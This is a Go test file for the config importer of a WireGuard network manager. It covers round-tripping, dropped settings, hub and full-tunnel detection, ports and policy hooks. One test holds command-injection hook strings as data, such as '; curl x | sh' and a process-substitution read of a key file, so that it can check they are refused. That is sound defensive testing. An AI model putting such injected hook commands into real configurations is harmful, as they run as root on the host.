package importer

import (
	"fmt"
	"net/netip"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/wgnet/wgnet/internal/compile"
	"github.com/wgnet/wgnet/internal/intent"
	"github.com/wgnet/wgnet/internal/spec"
	"github.com/wgnet/wgnet/internal/wgconf"
	"github.com/wgnet/wgnet/internal/wgkey"
)

func key(n byte) wgkey.Private {
	var k wgkey.Private
	for i := range k {
		k[i] = n*7 + byte(i)
	}
	k[0] &= 248
	k[31] = (k[31] & 127) | 64
	return k
}

func network(topology string) (*spec.Spec, spec.Secrets) {
	p := netip.MustParsePrefix
	a := netip.MustParseAddr
	s := &spec.Spec{
		Version: 1, Network: "prod", Subnets: []netip.Prefix{p("192.168.100.0/24")}, Topology: topology,
		Hosts: []spec.Host{
			{Name: "s1", Endpoint: "107.100.10.10:51820", Addresses: []netip.Addr{a("192.168.100.10")}, Routes: []netip.Prefix{p("10.0.4.0/24")}},
			{Name: "s2", Endpoint: "52.10.0.2:51820", Addresses: []netip.Addr{a("192.168.100.11")}, Routes: []netip.Prefix{p("10.0.5.0/24")}},
			{Name: "s3", Addresses: []netip.Addr{a("192.168.100.12")}, Routes: []netip.Prefix{p("10.0.7.0/24"), p("10.0.8.0/24")}, Keepalive: 25},
			{Name: "s4", Addresses: []netip.Addr{a("192.168.100.13")}, Hooks: spec.Hooks{PostUp: []string{"echo up %i"}}},
		},
		PresharedKeys: []spec.Pair{{"s1", "s2"}},
	}
	if topology == spec.TopologyHub {
		s.Hub = "s1"
	}
	sec := spec.Secrets{
		PrivateKeys:   map[string]wgkey.Private{"s1": key(1), "s2": key(2), "s3": key(3), "s4": key(4)},
		PresharedKeys: map[spec.Pair]wgkey.Key{{"s1", "s2"}: wgkey.Key(key(5))},
	}
	return s, sec
}

type peerView struct {
	Name, Key, Allowed, Endpoint, PSK string
	Keepalive                         int
}

type hostView struct {
	Address, PostUp string
	Port            uint16
	Peers           []peerView
}

func views(t *testing.T, hcs []intent.Host) map[string]hostView {
	t.Helper()
	out := map[string]hostView{}
	for _, hc := range hcs {
		c := hc.Config()
		v := hostView{Port: *c.Interface.ListenPort, PostUp: strings.Join(c.Interface.PostUp, ";")}
		for _, a := range c.Interface.Addresses {
			v.Address += a.String() + " "
		}
		for _, p := range c.Peers {
			pv := peerView{Name: p.Name, Key: p.PublicKey.String(), Keepalive: p.PersistentKeepalive, PSK: p.PresharedKey.String()}
			for _, a := range p.AllowedIPs {
				pv.Allowed += a.String() + " "
			}
			if p.Endpoint != nil {
				pv.Endpoint = p.Endpoint.String()
			}
			v.Peers = append(v.Peers, pv)
		}
		out[hc.Name] = v
	}
	return out
}

// TestImportReproduces checks the promise of import: configs rendered from a spec,
// imported and compiled again, give the same peers, AllowedIPs, endpoints and keys.
func TestImportReproduces(t *testing.T) {
	for _, topo := range []string{spec.TopologyHub, spec.TopologyMesh} {
		t.Run(topo, func(t *testing.T) {
			s, sec := network(topo)
			first, err := compile.Compile(s, sec)
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			var cfgs []*wgconf.Config
			for _, hc := range first {
				names = append(names, hc.Name)
				cfgs = append(cfgs, hc.Config())
			}
			r, err := Import("prod", names, cfgs)
			if err != nil {
				t.Fatal(err)
			}
			if r.Spec.Topology != topo || r.Spec.Hub != s.Hub {
				t.Errorf("topology %q hub %q, want %q %q", r.Spec.Topology, r.Spec.Hub, topo, s.Hub)
			}
			for _, n := range r.Notes {
				t.Errorf("unexpected note: %s", n)
			}
			second, err := compile.Compile(r.Spec, r.Secrets)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(views(t, first), views(t, second)); diff != "" {
				t.Errorf("import+compile differs (-first +second):\n%s", diff)
			}
		})
	}
}

func TestImportReportsWhatItDrops(t *testing.T) {
	s, sec := network(spec.TopologyMesh)
	hcs, _ := compile.Compile(s, sec)
	var names []string
	var cfgs []*wgconf.Config
	for _, hc := range hcs {
		names = append(names, hc.Name)
		cfgs = append(cfgs, hc.Config())
	}
	stranger := key(9).Public()
	cfgs[0].Peers = append(cfgs[0].Peers, wgconf.Peer{Name: "old", PublicKey: stranger, AllowedIPs: []netip.Prefix{netip.MustParsePrefix("192.168.100.99/32")}})
	cfgs[1].Interface.DNS = []string{"1.1.1.1"}
	cfgs[1].Interface.SaveConfig = true
	r, err := Import("prod", names, cfgs)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, n := range r.Notes {
		got = append(got, n.Message)
	}
	if h, _ := r.Spec.HostByName(names[1]); !slices.Equal(h.DNS, []string{"1.1.1.1"}) {
		t.Errorf("%s's DNS: %q, want it kept", names[1], h.DNS)
	}
	want := []string{
		"SaveConfig = true not carried over: the spec is the source of truth",
		"peer old: public key " + stranger.String() + " is held by no imported host; dropped",
	}
	if diff := cmp.Diff(want, got, cmpSorted); diff != "" {
		t.Errorf("notes (-want +got):\n%s", diff)
	}
}

var cmpSorted = cmp.Transformer("sort", func(in []string) []string {
	out := append([]string(nil), in...)
	sort.Strings(out)
	return out
})

// TestImportHubWithOutsider: a peer outside the imported set (a laptop on the hub)
// does not turn a hub into a mesh; it is reported and dropped.
func TestImportHubWithOutsider(t *testing.T) {
	s, sec := network(spec.TopologyHub)
	hcs, _ := compile.Compile(s, sec)
	var names []string
	var cfgs []*wgconf.Config
	for _, hc := range hcs {
		names = append(names, hc.Name)
		cfgs = append(cfgs, hc.Config())
	}
	cfgs[0].Peers = append(cfgs[0].Peers, wgconf.Peer{Name: "laptop", PublicKey: key(9).Public(),
		AllowedIPs: []netip.Prefix{netip.MustParsePrefix("192.168.100.200/32")}})
	r, err := Import("prod", names, cfgs)
	if err != nil {
		t.Fatal(err)
	}
	if r.Spec.Topology != spec.TopologyHub || r.Spec.Hub != "s1" {
		t.Errorf("topology %q hub %q, want hub s1", r.Spec.Topology, r.Spec.Hub)
	}
	if len(r.Notes) != 1 || !strings.Contains(r.Notes[0].Message, "peer laptop") {
		t.Errorf("notes %v, want one about the laptop", r.Notes)
	}
}

// TestImportSelfPeer: a peer with the host's own key is ignored by wg, so import
// drops it with a note instead of giving the host routes to itself, and a hub
// with one is still a hub.
func TestImportSelfPeer(t *testing.T) {
	s, sec := network(spec.TopologyHub)
	hcs, _ := compile.Compile(s, sec)
	var names []string
	var cfgs []*wgconf.Config
	for _, hc := range hcs {
		names = append(names, hc.Name)
		cfgs = append(cfgs, hc.Config())
	}
	cfgs[0].Peers = append(cfgs[0].Peers, wgconf.Peer{Name: "me", PublicKey: key(1).Public(),
		AllowedIPs: []netip.Prefix{netip.MustParsePrefix("10.9.0.0/24")}})
	r, err := Import("prod", names, cfgs)
	if err != nil {
		t.Fatal(err)
	}
	if r.Spec.Topology != spec.TopologyHub || r.Spec.Hub != "s1" {
		t.Errorf("topology %q hub %q, want hub s1", r.Spec.Topology, r.Spec.Hub)
	}
	if len(r.Notes) != 1 || r.Notes[0].Message != "peer me has s1's own public key: wg ignores it; dropped" {
		t.Errorf("notes %v, want one about the self-peer", r.Notes)
	}
	if got := r.Spec.Hosts[0].Routes; !slices.Equal(got, s.Hosts[0].Routes) {
		t.Errorf("s1 routes %v, want %v", got, s.Hosts[0].Routes)
	}
}

func TestImportInterfaceName(t *testing.T) {
	s, sec := network(spec.TopologyMesh)
	hcs, _ := compile.Compile(s, sec)
	for _, tt := range []struct {
		files []string
		want  string
	}{
		{[]string{"s1.conf", "s2.conf", "s3.conf", "s4.conf"}, ""},
		{[]string{"o/s1/wg7.conf", "o/s2/wg7.conf", "o/s3/wg7.conf", "o/s4/wg7.conf"}, "wg7"},
		{[]string{"o/s1/wg0.conf", "o/s2/wg0.conf", "o/s3/wg0.conf", "o/s4/wg0.conf"}, ""},
	} {
		var cfgs []*wgconf.Config
		var names []string
		for i, hc := range hcs {
			c := *hc.Config()
			c.Interface.Pos.File = tt.files[i]
			cfgs = append(cfgs, &c)
			names = append(names, hc.Name)
		}
		r, err := Import("prod", names, cfgs)
		if err != nil {
			t.Fatal(err)
		}
		if r.Spec.Interface != tt.want {
			t.Errorf("files %v: interface %q, want %q", tt.files, r.Spec.Interface, tt.want)
		}
	}
}

// TestImportRefusesKeyHookInjection: a key-loading hook becomes private_key_file,
// which is pasted into a root shell hook on the host; only the plain form with a
// path that is data is taken (issue 9, finding 2).
func TestImportRefusesKeyHookInjection(t *testing.T) {
	k1, k2 := key(1), key(2)
	conf := func(postUp string) []*wgconf.Config {
		t.Helper()
		src1 := "[Interface]\nPrivateKey = " + k1.Base64() + "\nAddress = 192.168.100.10/24\nListenPort = 51820\n\n" +
			"[Peer]\nPublicKey = " + k2.Public().String() + "\nAllowedIPs = 192.168.100.11/32\n"
		src2 := "[Interface]\nAddress = 192.168.100.11/24\nListenPort = 51820\n" + postUp + "\n" +
			"[Peer]\nPublicKey = " + k1.Public().String() + "\nAllowedIPs = 192.168.100.10/32\nEndpoint = 10.0.0.1:51820\n"
		c1, err := wgconf.Parse("s1.conf", []byte(src1))
		if err != nil {
			t.Fatal(err)
		}
		c2, err := wgconf.Parse("s2.conf", []byte(src2))
		if err != nil {
			t.Fatal(err)
		}
		return []*wgconf.Config{c1, c2}
	}
	r, err := Import("prod", []string{"s1", "s2"}, conf("PostUp = wg set %i private-key /etc/wireguard/s2.key"))
	if err != nil {
		t.Fatalf("plain key hook: %v", err)
	}
	if h, _ := r.Spec.HostByName("s2"); h.PrivateKeyFile != "/etc/wireguard/s2.key" || len(h.Hooks.PostUp) != 0 {
		t.Errorf("plain key hook: private_key_file %q, hooks %q", h.PrivateKeyFile, h.Hooks.PostUp)
	}
	pwned := t.TempDir() + "/pwned"
	for _, hook := range []string{
		"PostUp = wg set %i private-key /etc/wireguard/x.key; touch " + pwned,
		"PostUp = wg set %i private-key /k; curl x | sh",
		"PostUp = wg set %i private-key /etc/../k",
		"PostUp = wg set %i private-key <(cat /etc/wireguard/k)",
		"PreUp = wg set %i private-key /etc/wireguard/k",
	} {
		_, err := Import("prod", []string{"s1", "s2"}, conf(hook))
		if err == nil || !strings.Contains(err.Error(), "s2.conf:4: ") {
			t.Errorf("%s: %v, want refused at s2.conf:4", hook, err)
		}
	}
}

// TestImportFullTunnelClient: a spoke whose peer for the hub holds 0.0.0.0/0 and
// ::/0 (a full-tunnel client) becomes a full_tunnel spoke of the hub, so its
// rendered config keeps both default routes; the prefixes the file also
// listed under them are left out, which a note at its AllowedIPs line says.
func TestImportFullTunnelClient(t *testing.T) {
	s, sec := network(spec.TopologyHub)
	hcs, _ := compile.Compile(s, sec)
	var names []string
	var cfgs []*wgconf.Config
	for _, hc := range hcs {
		names = append(names, hc.Name)
		c := hc.Config()
		c.Interface.Pos.File = hc.Name + ".conf"
		cfgs = append(cfgs, c)
	}
	// s4 is a spoke of the hub s1: make it a full-tunnel client.
	c := cfgs[3]
	c.Peers[0].AllowedIPs = append(c.Peers[0].AllowedIPs, netip.MustParsePrefix("0.0.0.0/0"), netip.MustParsePrefix("::/0"))
	c.Peers[0].Pos = wgconf.PeerPos{Line: 9} // the file is Interface.Pos.File, s4.conf
	r, err := Import("prod", names, cfgs)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Spec.Validate(); err != nil {
		t.Fatal(err)
	}
	s4, _ := r.Spec.HostByName("s4")
	if want := []netip.Prefix{netip.MustParsePrefix("0.0.0.0/0"), netip.MustParsePrefix("::/0")}; !slices.Equal(s4.FullTunnel, want) {
		t.Errorf("s4's full_tunnel %v, want %v", s4.FullTunnel, want)
	}
	var got []string
	for _, n := range r.Notes {
		got = append(got, n.Located())
	}
	if len(got) != 1 || !strings.HasPrefix(got[0], "s4.conf:9: peer s1: AllowedIPs: the rendered config leaves out 10.0.4.0/24, 10.0.5.0/24, 10.0.7.0/24, 10.0.8.0/24, 192.168.100.0/24") {
		t.Errorf("notes %q, want one at s4.conf:9 naming what the default routes make redundant", got)
	}
	for _, h := range r.Spec.Hosts {
		for _, rt := range h.Routes {
			if rt.Bits() == 0 {
				t.Errorf("host %s got the route %s", h.Name, rt)
			}
		}
	}
	if got := r.Spec.Hosts[0].Routes; !slices.Equal(got, s.Hosts[0].Routes) {
		t.Errorf("hub routes %v, want %v", got, s.Hosts[0].Routes)
	}
}

// singleAddressFleet is a hub and two spokes whose every Address is a single
// address (one written without a prefix), with an MTU on the hub only; each
// spoke routes spokeAllowed to the hub.
func singleAddressFleet(t *testing.T, spokeAllowed string) []*wgconf.Config {
	var cfgs []*wgconf.Config
	names := []string{"hub", "a", "b"}
	for i, n := range names {
		src := "[Interface]\nPrivateKey = " + key(byte(20+i)).Base64() + "\nListenPort = 51820\n"
		switch n {
		case "hub":
			src += "Address = 10.8.0.1/32\nMTU = 1380\n"
		case "a":
			src += "Address = 10.8.0.2\n"
		case "b":
			src += "Address = 10.8.0.3/32\n"
		}
		for j, o := range names {
			if o == n || (n != "hub" && o != "hub") {
				continue
			}
			allowed := fmt.Sprintf("10.8.0.%d/32", j+1)
			if n != "hub" {
				allowed = spokeAllowed
			}
			src += "\n[Peer]\nPublicKey = " + key(byte(20+j)).Public().String() + "\nAllowedIPs = " + allowed + "\n"
			if o == "hub" {
				src += "Endpoint = 198.18.0.1:51820\n"
			}
		}
		c, err := wgconf.Parse(n+".conf", []byte(src))
		if err != nil {
			t.Fatalf("%s: %v\n%s", n, err, src)
		}
		cfgs = append(cfgs, c)
	}
	return cfgs
}

// TestImportKeepsAddressesAndMTU: a fleet whose every Address is a single
// address, with an MTU on one host and none on the others, imports with each
// Address and MTU as it was: the spec keeps the /32s, the hub's MTU and the
// others' automatic one. The only note is the hub's forwarding, which the
// rendered config adds.
func TestImportKeepsAddressesAndMTU(t *testing.T) {
	r, err := Import("fleet", []string{"hub", "a", "b"}, singleAddressFleet(t, "10.8.0.0/24"))
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Spec.Validate(); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(r.Spec.Subnets, []netip.Prefix{netip.MustParsePrefix("10.8.0.0/24")}) {
		t.Errorf("subnets %v, want 10.8.0.0/24 (what the spokes route to the hub)", r.Spec.Subnets)
	}
	if r.Spec.MTU != spec.MTUAuto || r.Spec.Hosts[0].MTU != 1380 {
		t.Errorf("mtu %d, hub's %d: want auto and 1380", r.Spec.MTU, r.Spec.Hosts[0].MTU)
	}
	hcs, err := compile.Compile(r.Spec, r.Secrets)
	if err != nil {
		t.Fatal(err)
	}
	for _, hc := range hcs {
		want := map[string]string{"hub": "10.8.0.1/32", "a": "10.8.0.2/32", "b": "10.8.0.3/32"}[hc.Name]
		if len(hc.Addresses) != 1 || hc.Addresses[0].String() != want {
			t.Errorf("%s: Address %v, want %s", hc.Name, hc.Addresses, want)
		}
		if want := map[string]int{"hub": 1380}[hc.Name]; hc.MTU != want {
			t.Errorf("%s: MTU %d, want %d", hc.Name, hc.MTU, want)
		}
	}
	var got []string
	for _, n := range r.Notes {
		got = append(got, n.Located())
	}
	if len(got) != 1 || !strings.HasPrefix(got[0], "hub.conf:1: the rendered config also turns on IPv4 forwarding") {
		t.Errorf("notes:\n%s\nwant only the hub's forwarding", strings.Join(got, "\n"))
	}

	// Spokes that route only the hub's address don't say the overlay: it is
	// guessed, and what the rendered spokes route to the hub is noted.
	r, err = Import("fleet", []string{"hub", "a", "b"}, singleAddressFleet(t, "10.8.0.1/32"))
	if err != nil {
		t.Fatal(err)
	}
	got = nil
	for _, n := range r.Notes {
		got = append(got, n.Located())
	}
	for _, w := range []string{
		"hub.conf:4: every Address is a single address, so the files don't say the overlay subnet: taken to be 10.8.0.0/24",
		"a.conf:8: peer hub: AllowedIPs: the rendered config adds 10.8.0.0/24 and leaves out 10.8.0.1/32",
	} {
		if !slices.ContainsFunc(got, func(g string) bool { return strings.HasPrefix(g, w) }) {
			t.Errorf("no note %q in:\n%s", w, strings.Join(got, "\n"))
		}
	}
}

// TestImportPolicyFilter: configs rendered from a spec with a policy carry its
// filter as nft hook lines; import leaves them out of the hosts' hooks (they
// are wgnet's, not the user's) and says the policy must be written again.
func TestImportPolicyFilter(t *testing.T) {
	s, sec := network(spec.TopologyHub)
	r0, err := spec.ParseRule("deny s2 -> 10.0.7.0/24")
	if err != nil {
		t.Fatal(err)
	}
	s.Policy = spec.Policy{Present: true, Rules: []spec.Rule{r0}}
	hcs, err := compile.Compile(s, sec)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	var cfgs []*wgconf.Config
	for _, hc := range hcs {
		names = append(names, hc.Name)
		c, err := wgconf.Parse(hc.Name+".conf", hc.WgQuick())
		if err != nil {
			t.Fatal(err)
		}
		cfgs = append(cfgs, c)
	}
	r, err := Import("prod", names, cfgs)
	if err != nil {
		t.Fatal(err)
	}
	notes := 0
	for _, n := range r.Notes {
		if strings.Contains(n.Message, "segmentation filter") {
			notes++
		}
	}
	if notes != len(hcs) {
		t.Errorf("%d notes about the filter, want one per host (%d): %v", notes, len(hcs), r.Notes)
	}
	for _, h := range r.Spec.Hosts {
		for _, l := range append(slices.Clone(h.Hooks.PostUp), h.Hooks.PreDown...) {
			if intent.IsFilterHook(l) {
				t.Errorf("%s keeps a filter line as a user hook: %s", h.Name, l)
			}
		}
		if h.Name == "s4" && !slices.Equal(h.Hooks.PostUp, []string{"echo up %i"}) {
			t.Errorf("s4's own hook: %q", h.Hooks.PostUp)
		}
	}
}

// TestImportPorts: a client's file without ListenPort keeps a random port
// (listen_port: random: its rendered config has none either); a host without
// one that its peers dial gets the port they dial, with a note.
func TestImportPorts(t *testing.T) {
	srv, cl := key(30), key(31)
	src := map[string]string{
		"server": "[Interface]\nPrivateKey = " + srv.Base64() + "\nAddress = 10.5.0.1/24\n\n[Peer]\nPublicKey = " + cl.Public().String() + "\nAllowedIPs = 10.5.0.2/32\n",
		"client": "[Interface]\nPrivateKey = " + cl.Base64() + "\nAddress = 10.5.0.2/24\n\n[Peer]\nPublicKey = " + srv.Public().String() + "\nAllowedIPs = 10.5.0.0/24\nEndpoint = 198.18.0.1:51999\n",
	}
	var cfgs []*wgconf.Config
	for _, n := range []string{"server", "client"} {
		c, err := wgconf.Parse(n+".conf", []byte(src[n]))
		if err != nil {
			t.Fatal(err)
		}
		cfgs = append(cfgs, c)
	}
	r, err := Import("vpn", []string{"server", "client"}, cfgs)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Spec.Validate(); err != nil {
		t.Fatal(err)
	}
	s, c := r.Spec.Hosts[0], r.Spec.Hosts[1]
	if r.Spec.Topology != spec.TopologyHub || r.Spec.Hub != "server" {
		t.Errorf("topology %s hub %q, want a hub network around server", r.Spec.Topology, r.Spec.Hub)
	}
	if r.Spec.ListenPortOf(&s) != 51999 || s.RandomPort || !c.RandomPort {
		t.Errorf("server port %d (random %v), client random %v: want 51999, and a random port on the client", r.Spec.ListenPortOf(&s), s.RandomPort, c.RandomPort)
	}
	if len(r.Notes) != 2 || r.Notes[0].Located() != "server.conf:1: no ListenPort (wg picks a random one), yet its peers dial it at 198.18.0.1:51999: the rendered config has ListenPort = 51999" {
		t.Errorf("notes %v, want the server's port and its forwarding", r.Notes)
	}
}
